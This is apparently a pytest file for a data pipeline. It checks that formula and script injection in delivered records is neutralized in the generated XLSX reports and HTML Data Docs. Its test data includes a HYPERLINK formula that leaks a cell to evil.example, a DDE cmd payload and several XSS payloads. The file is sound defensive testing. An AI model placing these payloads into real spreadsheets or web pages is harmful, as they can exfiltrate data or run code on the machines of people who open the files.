"""Issue 9, case 3: what a department delivers never becomes a formula in a spreadsheet or a script in
a page. A delivery carrying formula and script payloads runs through the real pipeline; every XLSX and
HTML file it leaves behind is opened and searched."""

from __future__ import annotations

import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest

from assets.common.documents import (
    escape_html,
    escape_markup,
    neutralize_cell,
    neutralize_frame,
    script_injections,
)
from assets.quality.data_docs import (
    GE_HANDLERS,
    GE_INLINE_SCRIPTS,
    UnsafeDataDocs,
    _check_site,
    own_scripts,
)
from assets.tickets.reports import report_dir
from orchestration.runner import run_pipeline
from tests.helpers import medical_rows, settings_for, write_delivery

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
)
SCRIPTS = ("<script>alert(1)</script>", '<img src=x onerror="alert(2)">')


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralize_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["医院", "6405**********1234", "", None, 12, 0.5, "a=b"])
def test_plain_values_are_written_as_they_are(value):
    assert neutralize_cell(value) == value


def test_a_frame_is_neutralized_cell_by_cell():
    import pandas as pd

    frame = pd.DataFrame({"值": ["=1+1", "正常", None], "行": [2, 3, 4]})
    out = neutralize_frame(frame)
    assert out["值"].tolist()[:2] == ["'=1+1", "正常"] and pd.isna(out["值"].iloc[2])
    assert out["行"].tolist() == [2, 3, 4]


def test_escaped_text_holds_no_tag_and_no_attribute_assignment():
    for payload in SCRIPTS:
        escaped = escape_html(payload)
        assert "<" not in escaped and "=" not in escaped
        assert "<" not in escape_markup(payload)


def test_the_page_check_finds_injected_scripts_and_passes_ge_own():
    site = Path("/site")
    allowed = {
        "allowed_handlers": GE_HANDLERS,
        "allowed_inline": GE_INLINE_SCRIPTS,
        "allowed_sources": own_scripts(site / "expectations" / "suite.html", site),
    }
    own = (
        '<script src="../static/vendor/jquery-3.7.1/jquery.min.js"></script>'
        "<script>function showAllValidations() {}</script>"
        "<button onclick=\"clearTableFilters('section-1')\">x</button>"
    )
    assert script_injections(own, **allowed) == []
    for payload in (
        *SCRIPTS,
        '<a href="javascript:alert(3)">x</a>',
        "<iframe src=x></iframe>",
        '<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script>',  # no CDN any more
        '<script src="../static/evil.js"></script>',
    ):
        assert script_injections(own + payload, **allowed), payload


def test_a_site_with_an_injected_script_is_refused(tmp_path):
    (tmp_path / "index.html").write_text(f"<html><body>{SCRIPTS[0]}</body></html>")
    with pytest.raises(UnsafeDataDocs):
        _check_site(tmp_path)


class _Elements(HTMLParser):
    """Every element and attribute name in a page, as a browser would parse it."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[str] = []
        self.handlers: list[tuple[str, str | None]] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        self.handlers += [(n, v) for n, v in attrs if n.startswith("on")]
        self._script = tag == "script"

    def handle_endtag(self, tag):
        self._script = False

    def handle_data(self, data):
        if self._script:
            self.scripts.append(data)


def _sheet_xml(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as book:
        return [
            book.read(name).decode("utf-8")
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        ] + [book.read("xl/sharedStrings.xml").decode("utf-8")]


@pytest.mark.slow
def test_hostile_values_reach_reports_and_data_docs_as_text(tmp_path):
    """A delivery with formulas and scripts in failing columns: its tickets' examples quote them in
    the department report (XLSX, HTML) and in GE Data Docs. No `<f>` element in any sheet, no
    formula-looking cell without its apostrophe, no injected script or handler in any page."""
    settings = settings_for(tmp_path)
    entry = settings.platform_resource().catalog["medical_institutions"]
    rows = medical_rows(6)
    rows[0]["grade"], rows[1]["grade"] = SCRIPTS
    rows[2]["category"], rows[3]["category"] = FORMULAS[0], FORMULAS[1]
    rows[4]["phone"], rows[5]["phone"] = FORMULAS[2], "<svg onload=alert(4)>"
    write_delivery(tmp_path, entry, "640502", "2026-Q3", rows)

    report = run_pipeline(settings)
    summary = report.summary()
    assert summary["files"][0]["status"] == "loaded"
    assert summary["quality"]["opened"], "the hostile values must reach tickets"

    workbooks = list(tmp_path.rglob("*.xlsx"))
    workbooks = [p for p in workbooks if "landing" not in p.parts]
    city = settings.platform_resource().city
    office = report_dir(settings.reports_dir, city, "640502", entry.provider) / "质量工单.xlsx"
    assert office in workbooks, "the department report was written"
    for book in workbooks:
        for xml in _sheet_xml(book):
            assert "<f>" not in xml and "<f " not in xml, book
        strings = "".join(_sheet_xml(book))
        if book == office:
            assert "'=HYPERLINK" in strings and "'=cmd|" in strings, book
        assert not re.search(r"<t[^>]*>=", strings), book  # no text cell starts with "="

    pages = [p for p in tmp_path.rglob("*.html") if "landing" not in p.parts]
    assert any("data_docs" in p.parts for p in pages)
    assert any("reports" in p.parts for p in pages)
    shown = False
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text and "onerror=" not in text, page
        assert "<svg" not in text, page
        elements = _Elements()
        elements.feed(text)
        assert all("alert(" not in body for body in elements.scripts), page
        assert all(name in {"onclick"} for name, _ in elements.handlers), page
        shown = shown or "&lt;script&gt;alert(1)" in text
    assert shown, "the payload is shown as text somewhere"
